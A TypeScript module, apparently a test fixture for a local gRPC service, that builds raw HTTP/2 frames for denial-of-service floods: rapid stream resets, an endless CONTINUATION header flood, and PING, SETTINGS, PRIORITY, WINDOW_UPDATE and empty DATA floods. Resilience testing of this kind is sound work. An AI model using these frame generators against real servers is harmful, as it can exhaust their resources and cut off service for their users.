/** What a hostile client floods an HTTP/2 connection with: frames that cost it nothing. */

const PREFACE: Buffer = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
export const END_HEADERS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const NOTHING: Buffer = Buffer.alloc(0);

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = NOTHING,
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header as HPACK writes it out, without a table. */
function header(name: string, value: string): Buffer {
  return Buffer.concat([
    ...[Buffer.from([0, name.length]), Buffer.from(name)],
    ...[Buffer.from([value.length]), Buffer.from(value)],
  ]);
}

/** The head of a call of gRPC. */
export const CALL: Buffer = Buffer.concat([
  header(":method", "POST"),
  header(":scheme", "http"),
  header(":path", "/entdb.v1.EntDBService/GetNode"),
  header(":authority", "localhost"),
  header("content-type", "application/grpc"),
]);

/** What a connection begins with. */
export const HELLO: Buffer = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);

const streamOf = (index: number) => 2 * index + 1;

/** The frames of each attack, by how manieth they are on their connection. */
export const ATTACKS = {
  resets: (i: number) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS, streamOf(i), CALL),
      frame(RST_STREAM, 0, streamOf(i), CANCEL),
    ]),
  "an endless head": (i: number) =>
    i === 0
      ? frame(HEADERS, 0, 1, CALL)
      : frame(CONTINUATION, 0, 1, header(`x-${i}`, "y".repeat(100))),
  "an empty body": (i: number) =>
    i === 0 ? frame(HEADERS, END_HEADERS, 1, CALL) : frame(DATA, 0, 1),
  pings: () => frame(PING, 0, 0, Buffer.alloc(8)),
  settings: () => frame(SETTINGS, 0, 0),
  priorities: () => frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 1])),
  "window updates": () => frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
} as const satisfies Readonly<Record<string, (index: number) => Buffer>>;
export type Attack = keyof typeof ATTACKS;
